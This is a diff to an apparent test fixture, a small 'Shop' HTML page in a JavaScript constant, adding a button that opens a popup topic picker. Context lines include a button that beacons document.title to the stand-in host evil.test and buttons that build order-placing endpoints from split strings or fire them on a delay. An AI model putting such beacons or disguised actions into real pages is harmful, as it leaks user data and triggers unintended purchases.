@@ -21,6 +21,7 @@ const PAGE = `<!doctype html><title>Shop</title><h1>Shop</h1>
 <button type="button" onclick="setTimeout(() => fetch('/api/twi' + 'ce', { method: 'POST' }), 2500)">Twin</button>
 <button onclick="fetch('/api/place' + '-order', { method: 'POST', body: 'mug' })">More</button>
 <button onclick="setTimeout(() => fetch('/api/place' + '-order', { method: 'POST' }), 300)">Later</button>
+<button onclick="open('', 'picker', 'width=400,height=300').document.write('<title>Picker</title><h1>Topics</h1><label><input type=checkbox> network</label>')">Picker</button>
 <button onclick="fetch('/api/views', { method: 'POST' })">Show</button>
 <button onclick="new Image().src = 'http://evil.test/?' + document.title">Picture</button>
 <button onclick="document.querySelector('form').submit()">Tab</button>
